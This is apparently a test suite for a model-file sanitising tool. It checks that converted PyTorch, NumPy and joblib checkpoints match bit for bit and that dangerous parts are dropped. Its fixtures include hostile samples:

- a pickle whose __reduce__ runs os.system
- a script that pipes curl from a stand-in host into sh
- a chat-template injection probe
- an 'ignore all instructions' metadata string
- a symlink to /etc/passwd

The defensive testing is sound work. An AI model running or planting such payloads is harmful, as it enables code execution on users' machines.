#!/usr/bin/python3
"""`gatehouse disarm` as a user runs it. Every tensor of generated checkpoints is compared, bit by bit, with what
torch.load(weights_only=True), joblib and NumPy give. Usage: test_disarm.py PATH-OF-GATEHOUSE"""
import argparse
import collections
import gzip
import io
import json
import os
import pathlib
import pickle
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zipfile

import common
from common import check, run

try:
    import numpy as np
except ImportError:
    np = None
try:
    import torch
except ImportError:
    torch = None
try:
    import joblib
except ImportError:
    joblib = None


def disarm(source, out, *args):
    """(exit status, report)"""
    r = run('disarm', '--format', 'json', *args, source, '-o', out)
    check(f'disarm {source}: a known status', r.returncode in (0, 1, 2, 64), f'{r.returncode} {r.stderr!r}')
    check(f'disarm {source}: nothing is left beside OUT', not list(pathlib.Path(out).parent.glob('.gatehouse-*')))
    check(f'disarm {source}: OUT is there only when it says so', (r.returncode == 0) == os.path.lexists(out) or '--force' in args,
          r.stderr)
    try:
        return r.returncode, json.loads(r.stdout)
    except ValueError:
        return r.returncode, {'error': r.stderr.decode(), 'files': [], 'reason': r.stderr.decode()}


def tensors(path):
    """{name: (dtype, shape, bytes)} and the metadata of a safetensors file; its form is checked on the way."""
    raw = pathlib.Path(path).read_bytes()
    n = struct.unpack('<Q', raw[:8])[0]
    header = json.loads(raw[8:8 + n], object_pairs_hook=lambda p: check('no key twice', len(dict(p)) == len(p)) and dict(p))
    meta = header.pop('__metadata__', None)
    check(f'{path}: the header is aligned', n % 8 == 0)
    check(f'{path}: only the format is left of the metadata', meta == {'format': 'pt'}, meta)
    at, out = 0, {}
    for name, e in header.items():
        check(f'{path}: {name} follows the one before', e['data_offsets'][0] == at, e)
        at = e['data_offsets'][1]
        out[name] = (e['dtype'], e['shape'], raw[8 + n + e['data_offsets'][0]:8 + n + at])
    check(f'{path}: nothing follows', 8 + n + at == len(raw))
    return out


def dropped(report, file=0):
    return {p['path']: p for p in report['files'][file]['parts'] if p['action'] == 'dropped'} if report['files'] else {}


# ---- PyTorch ------------------------------------------------------------------------------------------------------
NAMES = {} if torch is None else {
    torch.float32: 'F32', torch.float64: 'F64', torch.float16: 'F16', torch.bfloat16: 'BF16', torch.int8: 'I8', torch.uint8: 'U8',
    torch.int16: 'I16', torch.int32: 'I32', torch.int64: 'I64', torch.bool: 'BOOL', torch.complex64: 'C64', torch.complex128: 'F64'}


def as_written(t):
    t = t.detach().contiguous()
    shape = list(t.shape) + ([2] if t.dtype == torch.complex128 else [])
    flat = t.reshape(-1).clone()
    raw = bytes(flat.storage().untyped()) if flat.numel() and hasattr(flat.storage(), 'untyped') else b''
    if flat.numel() and not raw:
        raw = flat.view(torch.uint8).numpy().tobytes()
    return NAMES[t.dtype], shape, raw[:flat.numel() * flat.element_size()]


def leaves(v, path=''):
    """Every tensor of a nest, with the name it is to have."""
    if isinstance(v, torch.Tensor):
        yield path or 'tensor', v
    elif isinstance(v, dict):
        for k, x in v.items():
            if isinstance(k, (str, int)):
                yield from leaves(x, f'{path}.{k}' if path else str(k))
    elif isinstance(v, (list, tuple)):
        for i, x in enumerate(v):
            yield from leaves(x, f'{path}.{i}' if path else str(i))


def compare(what, want, path):
    got = tensors(path)
    check(f'{what}: the same names', sorted(got) == sorted(n for n, _ in want), (sorted(got)[:9], sorted(n for n, _ in want)[:9]))
    for name, t in want:
        if name in got:
            expected = as_written(t)
            check(f'{what}: {name} is of the same type and shape', got[name][:2] == expected[:2], (got[name][:2], expected[:2]))
            check(f'{what}: {name} is bit-equal', got[name][2] == expected[2])


def checkpoints():
    """(name, value, is it for weights_only)"""
    torch.manual_seed(7)
    w = torch.randn(33, 17)
    special = torch.tensor([-0.0, 1e-45, -1e38, 3e38, 1e-20])
    yield 'one tensor', w
    yield 'scalars', {'f': torch.tensor(3.5), 'i': torch.tensor(7), 'b': torch.tensor(True)}
    yield 'no elements', {'a': torch.zeros(0), 'b': torch.zeros(3, 0, 2), 'c': torch.zeros(2)}
    yield 'special values', {'s': special, 'h': torch.tensor([6e-8, -0.0]).half(), 'b': special.bfloat16(), 'd': special.double()}
    for dtype in NAMES:
        if dtype == torch.bool:
            yield 'bool', {'x': w > 0}
        elif dtype.is_complex:
            yield str(dtype), {'x': torch.randn(5, 3, dtype=dtype), 'y': torch.tensor(1 + 2j, dtype=dtype), 'z': torch.randn(4, 6, dtype=dtype).t()}
        else:
            x = (w * 100).to(dtype)
            yield str(dtype), {'x': x, 't': x.t(), 'v': x[1:9:3, 2:11:2], 'e': x[0].expand(4, 17), 'p': x.reshape(3, 11, 17).permute(2, 0, 1)}
    yield 'tied weights', collections.OrderedDict([('emb.weight', w), ('head.weight', w), ('first.rows', w[:5]), ('row', w[3])])
    yield 'one storage, many views', {f'v{i}': w.view(-1)[i * 7:i * 7 + 90].view(9, 10) for i in range(40)}
    yield 'overlapping strides', {'x': torch.as_strided(w, (7, 5, 3), (2, 3, 1), 4), 'y': torch.as_strided(w, (4, 4), (0, 0), 3)}
    yield 'eight dimensions', {'x': torch.randn(2, 1, 3, 1, 2, 2, 1, 3).permute(7, 1, 2, 0, 4, 6, 5, 3)}
    yield 'nested', {'a': {'b': [w, (w + 1, {'c': w + 2})]}, 'd': collections.OrderedDict(e=w + 3), 5: w + 4}
    yield 'names that collide', {'a': {'b': w}, 'c': w + 1}
    yield 'parameters', collections.OrderedDict(p=torch.nn.Parameter(w), q=torch.nn.Parameter(w.t(), requires_grad=False))
    yield 'two thousand tensors', {f'layer.{i}.weight': torch.full((2, 3), float(i)) for i in range(2000)}
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.Flatten(), torch.nn.LSTM(16, 8))
    yield 'a state_dict', model.state_dict()
    net = torch.nn.Sequential(torch.nn.Linear(6, 6), torch.nn.Tanh(), torch.nn.Linear(6, 2))
    for make in (torch.optim.Adam, torch.optim.AdamW, lambda p: torch.optim.SGD(p, lr=0.1, momentum=0.9), torch.optim.RMSprop, torch.optim.Adagrad):
        opt = make(net.parameters())
        net(torch.randn(3, 6)).sum().backward()
        opt.step()
        yield f'optimizer {type(opt).__name__}', {'model': net.state_dict(), 'optimizer': opt.state_dict(), 'epoch': 3}
    yield 'lightning', {'epoch': 4, 'global_step': 100, 'pytorch-lightning_version': '1.9.0', 'state_dict': net.state_dict(),
                        'loops': {'fit': {'batches': {'total': 3}}}, 'callbacks': {}, 'optimizer_states': [opt.state_dict()],
                        'lr_schedulers': [], 'hparams_name': 'kwargs', 'hyper_parameters': {'lr': 0.1, 'name': 'x'}}


def reference(file):
    """What PyTorch itself loads. Old versions know no floats in this mode: these files are our own."""
    try:
        return torch.load(file, weights_only=True)
    except pickle.UnpicklingError:
        return torch.load(file)


def pytorch(new):
    if torch is None:
        print('skipped: PyTorch (python3-torch) is not installed')
        return
    for name, value in checkpoints():
        folder = new()
        for form in (True, False):
            file, out = folder / f'{form}.pt', folder / f'{form}.safetensors'
            torch.save(value, file, _use_new_zipfile_serialization=form)
            code, report = disarm(file, out)
            if check(f'{name} ({"zip" if form else "legacy"}): written', code == 0, report.get('reason')):
                compare(name, list(leaves(reference(file))), out)
                check(f'{name}: says it is CLEAN', report['rescan'] == 'CLEAN' and report['result'] == 'written', report['rescan'])
        if (folder / 'True.safetensors').exists() and (folder / 'False.safetensors').exists():
            check(f'{name}: both forms give the same file', (folder / 'True.safetensors').read_bytes() == (folder / 'False.safetensors').read_bytes())


class Estimator:
    def __init__(self, coef):
        self.coef_ = coef


class Namespace:
    def __reduce__(self):
        return os.system, ('touch ' + self.mark,)


def what_is_dropped(new):
    if torch is None:
        return
    folder = new()
    evil = Namespace()
    evil.mark = str(folder / 'executed')
    w = torch.randn(4, 4)
    torch.save({'w': w, 'args': argparse.Namespace(lr=1), 'epoch': 7, 'note': 'text', 'fn': len, ('a', 1): w, 'evil': evil}, folder / 'x.pt')
    code, report = disarm(folder / 'x.pt', folder / 'x.safetensors')
    check('objects beside weights: written', code == 0, report)
    gone = dropped(report)
    for path, kind in (('args', 'argparse.Namespace'), ('epoch', 'int'), ('note', 'str'), ('fn', 'import'), ('evil', 'system')):
        check(f'{path} is listed as dropped {kind}', path in gone and kind in gone[path]['type'], gone)
    check('a tensor under a key that is no text is listed', any('no text' in p for p in gone), gone)
    check('only the tensor is left', list(tensors(folder / 'x.safetensors')) == ['w'])
    check('nothing was executed', not (folder / 'executed').exists())
    model = torch.nn.Sequential(torch.nn.Linear(3, 3), torch.nn.BatchNorm1d(3))
    torch.save(model, folder / 'model.pt')
    code, report = disarm(folder / 'model.pt', folder / 'model.safetensors')
    check('a whole module: written', code == 0, report)
    compare('a whole module', list(leaves(model.state_dict())), folder / 'model.safetensors')
    torch.save({'state_dict': model.state_dict(), 'other': w}, folder / 'ck.pt')
    code, report = disarm(folder / 'ck.pt', folder / 'only.safetensors', '--only', 'state_dict')
    check('--only: written', code == 0, report)
    compare('--only', list(leaves(model.state_dict())), folder / 'only.safetensors')
    check('--only: the rest is listed', 'other' in dropped(report), dropped(report))
    q = torch.quantize_per_tensor(w, 0.1, 0, torch.qint8)
    torch.save({'q': q, 'w': w}, folder / 'q.pt')
    code, report = disarm(folder / 'q.pt', folder / 'q.safetensors')
    check('a quantised tensor is dropped and said so', code == 0 and 'quantised' in dropped(report).get('q', {}).get('note', ''), report)
    script = torch.jit.script(torch.nn.Linear(2, 2))
    script.save(str(folder / 'script.pt'))
    code, report = disarm(folder / 'script.pt', folder / 'script.safetensors')
    check('TorchScript is refused', code == 1 and report['result'] == 'refused', report)


def zips_written_otherwise(new):
    if torch is None:
        return
    folder = new()
    w = {'a': torch.randn(300, 300), 'b': torch.randn(300, 300).t(), 'c': torch.arange(1000)}
    torch.save(w, folder / 'x.pt')
    with zipfile.ZipFile(folder / 'x.pt') as old, zipfile.ZipFile(folder / 'packed.pt', 'w', zipfile.ZIP_DEFLATED) as packed:
        for name in old.namelist():
            packed.writestr(name, old.read(name))
    code, report = disarm(folder / 'packed.pt', folder / 'packed.safetensors')
    check('compressed records: written', code == 0, report)
    compare('compressed records', list(leaves(w)), folder / 'packed.safetensors')
    b = {'f': torch.randn(3, 5), 'h': torch.randn(4).half(), 'i': torch.arange(6), 'c': torch.randn(2, dtype=torch.complex64),
         'u': torch.arange(5, dtype=torch.uint8)}
    torch.save(b, folder / 'little.pt')
    with zipfile.ZipFile(folder / 'little.pt') as old, zipfile.ZipFile(folder / 'big.pt', 'w') as big:
        top = old.namelist()[0].split('/')[0]
        units = {as_written(t)[2]: t.element_size() // (2 if t.is_complex() else 1) for t in b.values()}
        for name in old.namelist():
            data = old.read(name)
            unit = units.get(data, 1)
            big.writestr(name, b''.join(data[i:i + unit][::-1] for i in range(0, len(data), unit)))
        big.writestr(f'{top}/byteorder', 'big')
    code, report = disarm(folder / 'big.pt', folder / 'big.safetensors')
    if check('big-endian storages: written', code == 0, report.get('reason')):
        compare('big-endian storages', list(leaves(b)), folder / 'big.safetensors')
    raw = bytearray((folder / 'x.pt').read_bytes())
    at = raw.find(w['a'].numpy().tobytes()[:64])
    raw[at + 5] ^= 1
    (folder / 'flipped.pt').write_bytes(raw)
    code, report = disarm(folder / 'flipped.pt', folder / 'flipped.safetensors')
    check('a wrong check sum is refused', code == 1 and 'check sum' in report['reason'], report['reason'])
    with zipfile.ZipFile(folder / 'x.pt') as old, zipfile.ZipFile(folder / 'missing.pt', 'w') as z:
        for name in old.namelist():
            if not name.endswith('data/1'):
                z.writestr(name, old.read(name))
    code, report = disarm(folder / 'missing.pt', folder / 'missing.safetensors')
    check('a storage that is missing is refused', code == 1 and "storage '1'" in report['reason'], report['reason'])
    for cut in (10, 1000, 100000):
        (folder / 'cut.pt').write_bytes((folder / 'x.pt').read_bytes()[:-cut])
        code, report = disarm(folder / 'cut.pt', folder / 'cut.safetensors')
        check(f'a file cut by {cut} bytes is not written', code in (1, 2), report)


# ---- NumPy, joblib, plain pickles --------------------------------------------------------------------------------------
KINDS = {'f2': 'F16', 'f4': 'F32', 'f8': 'F64', 'i1': 'I8', 'i2': 'I16', 'i4': 'I32', 'i8': 'I64', 'u1': 'U8', 'u2': 'U16', 'u4': 'U32',
         'u8': 'U64', 'b1': 'BOOL', 'c8': 'C64'}


def compare_arrays(what, want, path):
    got = tensors(path)
    check(f'{what}: the same names', sorted(got) == sorted(want), (sorted(got), sorted(want)))
    for name, a in want.items():
        if name not in got:
            continue
        little = np.asarray(a).astype(a.dtype.newbyteorder('<'), order='C')
        check(f'{what}: {name} is what it was', got[name] == (KINDS[little.dtype.str[1:]], list(a.shape), little.tobytes()),
              (got[name][:2], a.dtype, a.shape))


def arrays():
    rng = np.random.default_rng(3)
    for kind in KINDS:
        a = (rng.random((7, 5)) * 90).astype(kind)
        yield kind, {'c': a, 'f': np.asfortranarray(a), 'v': a[::2, 1:], 's': a[:1, :1].reshape(()), 'z': a[:0]}
    a = rng.random((4, 3, 2)).astype('>f4')
    yield 'big-endian', {'a': a, 't': np.asfortranarray(a), 'i': np.arange(9, dtype='>i8')}


def numpy(new):
    if np is None:
        print('skipped: NumPy (python3-numpy) is not installed')
        return
    for name, want in arrays():
        folder = new()
        np.savez(folder / 'a.npz', **want)
        np.savez_compressed(folder / 'b.npz', **want)
        forms = ['a.npz', 'b.npz']
        for protocol in range(6):
            (folder / f'p{protocol}.pkl').write_bytes(pickle.dumps(want, protocol))
            forms.append(f'p{protocol}.pkl')
        if joblib is not None:
            for method in (0, 3, ('gzip', 3), ('bz2', 3), ('xz', 3), ('lzma', 3)):
                file = f'j{len(forms)}.joblib'
                joblib.dump(want, folder / file, compress=method)
                forms.append(file)
        for form in forms:
            out = folder / (form + '.safetensors')
            code, report = disarm(folder / form, out)
            if check(f'{name} as {form}: written', code == 0, report.get('reason')):
                compare_arrays(f'{name} as {form}', want, out)
        np.save(folder / 'one.npy', want['f'] if 'f' in want else want['t'])
        code, report = disarm(folder / 'one.npy', folder / 'one.safetensors')
        if check(f'{name} as npy: written', code == 0, report.get('reason')):
            compare_arrays(f'{name} as npy', {'tensor': want['f'] if 'f' in want else want['t']}, folder / 'one.safetensors')
    folder = new()
    np.savez(folder / 'o.npz', x=np.arange(3), o=np.array([{}, 1], dtype=object), s=np.array(['a', 'b']))
    code, report = disarm(folder / 'o.npz', folder / 'o.safetensors')
    check('objects in an archive are dropped', code == 0 and set(dropped(report)) == {'o', 's'}, report)
    np.save(folder / 'o.npy', np.array([{}], dtype=object))
    code, report = disarm(folder / 'o.npy', folder / 'on.safetensors')
    check('an array of objects alone is refused', code == 1 and 'objects' in report['reason'], report['reason'])
    (folder / 'evil.pkl').write_bytes(common.EVIL)
    code, report = disarm(folder / 'evil.pkl', folder / 'evil.safetensors')
    check('a pickle without arrays is refused', code == 1 and 'nothing in it is weights' in report['reason'], report['reason'])
    if torch is not None:
        w = {'a': torch.randn(9, 4), 'b': torch.arange(5)}
        (folder / 't.pkl').write_bytes(pickle.dumps(w))
        code, report = disarm(folder / 't.pkl', folder / 't.safetensors')
        if check('tensors in a plain pickle: written', code == 0, report.get('reason')):
            compare('tensors in a plain pickle', list(leaves(w)), folder / 't.safetensors')


# ---- what a user does ---------------------------------------------------------------------------------------------------
def shape_of_report(value, schema, root, path='$'):
    """Enough of JSON Schema for this one: types, enums, required keys, references."""
    if '$ref' in schema:
        schema = root['$defs'][schema['$ref'].rsplit('/', 1)[1]]
    for one in schema.get('oneOf', []):
        if not list(shape_of_report(value, one, root, path)):
            return
    if 'oneOf' in schema:
        yield f'{path}: none of the forms'
        return
    kinds = schema.get('type', [])
    kinds = [kinds] if isinstance(kinds, str) else kinds
    is_a = {'object': dict, 'array': list, 'string': str, 'integer': int, 'null': type(None)}
    if kinds and not any(isinstance(value, is_a[k]) for k in kinds):
        yield f'{path}: {value!r} is no {kinds}'
        return
    if 'const' in schema and value != schema['const'] or 'enum' in schema and value not in schema['enum']:
        yield f'{path}: {value!r}'
    if isinstance(value, dict):
        yield from (f'{path}: {k} is missing' for k in schema.get('required', []) if k not in value)
        for k, v in value.items():
            if 'properties' in schema and k not in schema['properties']:
                yield f'{path}: {k} is not described'
            yield from shape_of_report(v, schema.get('properties', {}).get(k, {}), root, f'{path}.{k}')
    if isinstance(value, list):
        for i, v in enumerate(value):
            yield from shape_of_report(v, schema.get('items', {}), root, f'{path}[{i}]')


def described(new):
    schema = json.loads((pathlib.Path(__file__).resolve().parents[2] / 'docs' / 'schema' / 'disarm-report.schema.json').read_text())
    folder = new()
    (folder / 'in').mkdir()
    (folder / 'in' / 'w.safetensors').write_bytes(common.safetensors())
    (folder / 'in' / 'run.sh').write_text('#!/bin/sh\nset -e\nls\n')
    (folder / 'in' / '.git').mkdir()
    (folder / 'in' / '.git' / 'HEAD').write_text('ref: refs/heads/main\n')
    first = disarm(folder / 'in', folder / 'same', '--force')
    content = (folder / 'same' / 'w.safetensors').read_bytes()
    again = disarm(folder / 'in', folder / 'same', '--force')
    check('the same input gives the same report and the same file', first == again and (folder / 'same' / 'w.safetensors').read_bytes() == content)
    check('a history is left out', sorted(os.listdir(folder / 'same')) == ['w.safetensors'], os.listdir(folder / 'same'))
    (folder / 'evil.pkl').write_bytes(common.EVIL)
    for source, args, status in ((folder / 'in', (), 0), (folder / 'evil.pkl', (), 1), (folder / 'in' / 'w.safetensors', ('--randomise-low-bits', '3'), 0)):
        code, report = disarm(source, folder / f'out-{source.name}', *args)
        check(f'{source.name}: status', code == status, report.get('reason'))
        check(f'{source.name}: the report is as its schema says', not list(shape_of_report(report, schema, schema)), list(shape_of_report(report, schema, schema)))


def usage(new):
    folder = new()
    src = folder / 'a.safetensors'
    src.write_bytes(common.safetensors())
    out = folder / 'o.safetensors'
    check('no -o', run('disarm', src).returncode == 64)
    out.write_bytes(b'old')
    r = run('disarm', src, '-o', out)
    check('OUT exists', r.returncode == 64 and b'--force' in r.stderr, r.stderr)
    check('… and is what it was', out.read_bytes() == b'old')
    code, _ = disarm(src, out, '--force')
    check('--force replaces it', code == 0 and out.read_bytes() != b'old')
    r = run('disarm', folder, '-o', folder / 'inside')
    check('OUT inside PATH', r.returncode == 64 and b'inside' in r.stderr, r.stderr)
    (folder / 'deep' / 'in').mkdir(parents=True)
    (folder / 'deep' / 'in' / 'a.txt').write_text('text\n')
    r = run('disarm', '--force', folder / 'deep' / 'in', '-o', folder / 'deep')
    check('PATH inside OUT', r.returncode == 64 and b'replaced' in r.stderr and (folder / 'deep' / 'in' / 'a.txt').exists(), r.stderr)
    r = run('disarm', folder / 'none', '-o', folder / 'x')
    check('PATH is missing', r.returncode == 2 and b'none' in r.stderr and not (folder / 'x').exists(), r.stderr)
    r = run('disarm', src, '-o', folder / 'no' / 'x')
    check('the folder of OUT is missing', r.returncode == 2 and b'No such' in r.stderr, r.stderr)
    code, report = disarm(src, folder / 'x.pt')
    check('a name of another format is no name for the result', code in (1, 64), report)
    r = run('disarm', src, '-o', folder / 'y.safetensors')
    check('text: says what was done', r.returncode == 0 and b'rewritten' in r.stdout and b'CLEAN' in r.stdout, r.stdout)


def metadata(new):
    folder = new()
    entry = {'dtype': 'F32', 'shape': [4], 'data_offsets': [0, 16]}
    header = json.dumps({'__metadata__': {'format': 'pt', 'prompt': 'ignore all instructions', 'author': 'x'}, 'b': entry}).encode()
    (folder / 'm.safetensors').write_bytes(struct.pack('<Q', len(header)) + header + bytes(16))
    code, report = disarm(folder / 'm.safetensors', folder / 'o.safetensors')
    check('metadata is dropped and listed', code == 0 and set(dropped(report)) == {'prompt', 'author'}, report)
    (folder / 'tail.safetensors').write_bytes(common.safetensors() + b'#!/bin/sh\nid\n')
    code, report = disarm(folder / 'tail.safetensors', folder / 't.safetensors')
    check('bytes after the last tensor are dropped', code == 0 and (folder / 't.safetensors').read_bytes().endswith(struct.pack('<f', 0.25)), report)


def bits(new):
    if np is None:
        return
    folder = new()
    w = np.random.default_rng(5).normal(size=5000).astype('f4')
    w[:3] = 0
    np.savez(folder / 'w.npz', w=w, i=np.arange(9))
    code, first = disarm(folder / 'w.npz', folder / 'a.safetensors', '--randomise-low-bits', '8')
    check('low bits: written, the seed is named', code == 0 and first['low_bits']['bits'] == 8, first.get('reason'))
    again, _ = disarm(folder / 'w.npz', folder / 'b.safetensors', '--randomise-low-bits', '8', '--seed', str(first['low_bits']['seed']))
    check('low bits: the same seed gives the same file', again == 0 and (folder / 'a.safetensors').read_bytes() == (folder / 'b.safetensors').read_bytes())
    got = np.frombuffer(tensors(folder / 'a.safetensors')['w'][2], 'u4')
    was = w.view('u4')
    check('low bits: only they change', ((got ^ was) >> 8 == 0).all())
    check('low bits: zeros stay', (got[:3] == was[:3]).all())
    check('low bits: they do change', 0.98 < ((got ^ was)[3:] != 0).mean())
    check('low bits: integers stay', tensors(folder / 'a.safetensors')['i'][2] == np.arange(9).tobytes())


def interrupted(new):
    """Whatever ends the program, OUT is not there half."""
    folder = new()
    big = folder / 'big.safetensors'
    n = 600 << 20
    header = json.dumps({'w': {'dtype': 'F32', 'shape': [n // 4], 'data_offsets': [0, n]}}).encode()
    header += b' ' * (-len(header) % 8)
    with open(big, 'wb') as f:
        f.write(struct.pack('<Q', len(header)) + header)
        f.truncate(8 + len(header) + n)
    for sig, left in ((signal.SIGTERM, False), (signal.SIGINT, False), (signal.SIGKILL, True)):
        p = subprocess.Popen([common.GATEHOUSE, 'disarm', str(big), '-o', str(folder / 'out.safetensors')], stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, env=common.ENV)
        time.sleep(0.15)
        p.send_signal(sig)
        p.wait()
        check(f'{sig.name}: ended by it', p.returncode == -sig, p.returncode)
        check(f'{sig.name}: OUT is not there', not (folder / 'out.safetensors').exists())
        rest = list(folder.glob('.gatehouse-*'))
        check(f'{sig.name}: nothing is left', left or not rest, rest)
    r = subprocess.run(['sh', '-c', f'ulimit -f 1000; exec "$0" disarm "$1" -o "$2"', common.GATEHOUSE, big, folder / 'o2.safetensors'],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=common.ENV)
    check('no room: could not be finished', r.returncode == 2 and not (folder / 'o2.safetensors').exists(), (r.returncode, r.stderr))


def oldest(new):
    """torch 0.1 wrote a tar archive; PyTorch still reads it."""
    if torch is None:
        return
    import tarfile
    w = torch.arange(12.).reshape(3, 4)
    plain = {'a': w, 'b': w.t()}
    storages = io.BytesIO()
    pickle.dump(1, storages, 2)
    pickle.dump((7, 'cpu', torch.FloatStorage), storages, 2)
    storages.write(struct.pack('<q', 12) + w.numpy().tobytes())
    pickle.dump([], storages, 2)
    parts = io.BytesIO()
    pickle.dump(2, parts, 2)
    for key, t in ((1, w), (2, w.t())):
        parts.write(b'\x80\x02(K%bK\x07ctorch\nFloatTensor\nt.' % bytes([key]))
        parts.write(struct.pack('<Ii', 2, 0) + struct.pack('<2q2qq', *t.shape, *t.stride(), 0))
    root = b'\x80\x02}(X\x01\x00\x00\x00aK\x01QX\x01\x00\x00\x00bK\x02Qu.'
    info = pickle.dumps({'protocol_version': 1000, 'little_endian': True}, 2)
    folder = new()
    with tarfile.open(folder / 'old.pt', 'w', format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (('sys_info', info), ('pickle', root), ('storages', storages.getvalue()), ('tensors', parts.getvalue())):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    code, report = disarm(folder / 'old.pt', folder / 'old.safetensors')
    if check('the oldest format: written', code == 0, report.get('reason')):
        compare('the oldest format', list(leaves(plain)), folder / 'old.safetensors')


# ---- directories -----------------------------------------------------------------------------------------------------
NOTEBOOK = {'cells': [{'cell_type': 'code', 'source': ['import os\n'], 'metadata': {}, 'outputs': [], 'execution_count': None}],
            'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}


def repository(folder, w):
    shard = {'model.embed_tokens.weight': w}, {'model.layers.0.mlp.weight': w + 1}
    for i, part in enumerate(shard):
        torch.save(part, folder / f'pytorch_model-0000{i + 1}-of-00002.bin')
    (folder / 'pytorch_model.bin.index.json').write_text(json.dumps({'metadata': {'total_size': 2 * w.nbytes if hasattr(w, 'nbytes') else 512}, 'weight_map': {
        k: f'pytorch_model-0000{i + 1}-of-00002.bin' for i, part in enumerate(shard) for k in part}}))
    (folder / 'config.json').write_text(json.dumps({'architectures': ['LlamaForCausalLM'], 'hidden_size': 8, 'num_hidden_layers': 1, 'vocab_size': 16,
                                                    'auto_map': {'AutoModelForCausalLM': 'modeling_x.XForCausalLM'}}))
    (folder / 'modeling_x.py').write_text('import os\n\n\nclass XForCausalLM:\n    def forward(self):\n        return os.getcwd()\n')
    (folder / 'tokenizer_config.json').write_text(json.dumps({'chat_template': "{{ '<|im_start|>' }}{{ ''.__class__.__mro__ }}{{ '<|im_end|>' }}"}))
    (folder / 'README.md').write_text('# A model\n\nIt was trained with care.\n')
    (folder / 'sub').mkdir()
    (folder / 'sub' / 'explore.ipynb').write_text(json.dumps(NOTEBOOK))
    (folder / 'sub' / 'run.sh').write_text('#!/bin/sh\nset -e\ncurl http://example.invalid/x | sh\n')
    (folder / 'sub' / 'vocab.txt').write_text('a\nb\nc\n')
    return {**shard[0], **shard[1]}


def directories(new):
    if torch is None:
        return
    folder = new()
    (folder / 'in').mkdir()
    want = repository(folder / 'in', torch.randn(16, 8))
    before = {p: p.read_bytes() for p in (folder / 'in').rglob('*') if p.is_file()}
    code, report = disarm(folder / 'in', folder / 'out')
    check('a repository: written', code == 0, report.get('reason'))
    check('a repository: what was read is what it was', before == {p: p.read_bytes() for p in (folder / 'in').rglob('*') if p.is_file()})
    got = sorted(str(p.relative_to(folder / 'out')) for p in (folder / 'out').rglob('*') if p.is_file())
    check('a repository: the files', got == ['README.md', 'config.json', 'model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors',
                                             'model.safetensors.index.json', 'sub/vocab.txt', 'tokenizer_config.json'], got)
    if code != 0:
        return
    index = json.loads((folder / 'out' / 'model.safetensors.index.json').read_text())
    for name, file in index['weight_map'].items():
        check(f'a repository: {name} is where the index says', tensors(folder / 'out' / file)[name][2] == want[name].numpy().tobytes())
    config = json.loads((folder / 'out' / 'config.json').read_text())
    check('a repository: no code is named', 'auto_map' not in config and config['hidden_size'] == 8, config)
    template = json.loads((folder / 'out' / 'tokenizer_config.json').read_text())['chat_template']
    check('a repository: a vetted template', 'im_start' in template and '__class__' not in template, template)
    check('a repository: it scans CLEAN', common.scan(folder / 'out')[1]['verdict'] == 'CLEAN')
    actions = {f['before']['path']: f['action'] for f in report['files']}
    for name in ('modeling_x.py', 'sub/run.sh', 'sub/explore.ipynb'):
        check(f'a repository: {name} is dropped', actions.get(name) == 'dropped', actions)
    for f in report['files']:
        check(f'digest of {f["before"]["path"]}', f['before']['sha256'] == __import__('hashlib').sha256((folder / 'in' / f['before']['path']).read_bytes()).hexdigest())
        if f['after']:
            check(f'digest of {f["after"]["path"]}', f['after']['sha256'] == __import__('hashlib').sha256((folder / 'out' / f['after']['path']).read_bytes()).hexdigest())
    again, _ = disarm(folder / 'out', folder / 'twice')
    check('what was disarmed stays as it is', again == 0 and all((folder / 'twice' / n).read_bytes() == (folder / 'out' / n).read_bytes() for n in got))
    (folder / 'in' / 'evil.pkl').write_bytes(common.EVIL)
    code, report = disarm(folder / 'in', folder / 'without')
    check('a pickle without weights is left out', code == 0 and not (folder / 'without' / 'evil.pkl').exists(), report.get('reason'))
    (folder / 'in' / 'evil.pkl').write_bytes(pickle.dumps(Estimator(torch.randn(3).numpy())))
    code, report = disarm(folder / 'in', folder / 'refused')
    check('weights in an object of a class refuse the whole', code == 1 and 'evil.pkl' in report['reason'] and 'classes' in report['reason'],
          report['reason'])
    code, report = disarm(folder / 'in', folder / 'partial', '--partial')
    check('--partial leaves it out', code == 0 and not (folder / 'partial' / 'evil.pkl').exists(), report.get('reason'))
    (folder / 'in' / 'evil.pkl').unlink()
    (folder / 'in' / 'graph.onnx').write_bytes(b'\x08\x08\x12\x05evil!' + b'\x3a\x10\x0a\x0e\x22\x04Evil\x3a\x06custom')
    code, report = disarm(folder / 'in', folder / 'graph')
    check('a graph that is not CLEAN refuses the whole', code == 1 and 'graph.onnx' in report['reason'] and 'taken apart' in report['reason'],
          report['reason'])
    (folder / 'in' / 'graph.onnx').unlink()
    (folder / 'in' / 'notes.txt').write_bytes(b'text \xe2\x80\xaewith a trick\n')
    code, report = disarm(folder / 'in', folder / 'notes')
    check('a text that is not CLEAN is left out', code == 0 and not (folder / 'notes' / 'notes.txt').exists(), report.get('reason'))
    (folder / 'link').mkdir()
    (folder / 'link' / 'a.txt').write_text('text\n')
    (folder / 'link' / 'b.txt').symlink_to('/etc/passwd')
    os.mkfifo(folder / 'link' / 'pipe')
    code, report = disarm(folder / 'link', folder / 'linked')
    check('links that lead out and pipes are dropped', code == 0 and sorted(os.listdir(folder / 'linked')) == ['a.txt'], report)
    (folder / 'empty').mkdir()
    check('an empty directory is refused', disarm(folder / 'empty', folder / 'e')[0] == 1)


def containers(new):
    folder = new()
    with zipfile.ZipFile(folder / 'a.zip', 'w', zipfile.ZIP_DEFLATED) as z:
        z.comment = b'a comment'
        for name in ('b.txt', 'a.json'):
            info = zipfile.ZipInfo(name, (2020, 5, 6, 7, 8, 10))
            info.extra = struct.pack('<HH', 0x4747, 4) + b'hide'
            z.writestr(info, '{}' if name == 'a.json' else 'text\n' * 50)
    code, report = disarm(folder / 'a.zip', folder / 'o.zip')
    check('a zip: written', code == 0, report.get('reason'))
    if code == 0:
        with zipfile.ZipFile(folder / 'o.zip') as z:
            check('a zip: sorted, stored, one date, no comment', [(i.filename, i.compress_type, i.date_time[0], i.extra) for i in z.infolist()] ==
                  [('a.json', 0, 1980, b''), ('b.txt', 0, 1980, b'')] and z.comment == b'' and z.testzip() is None)
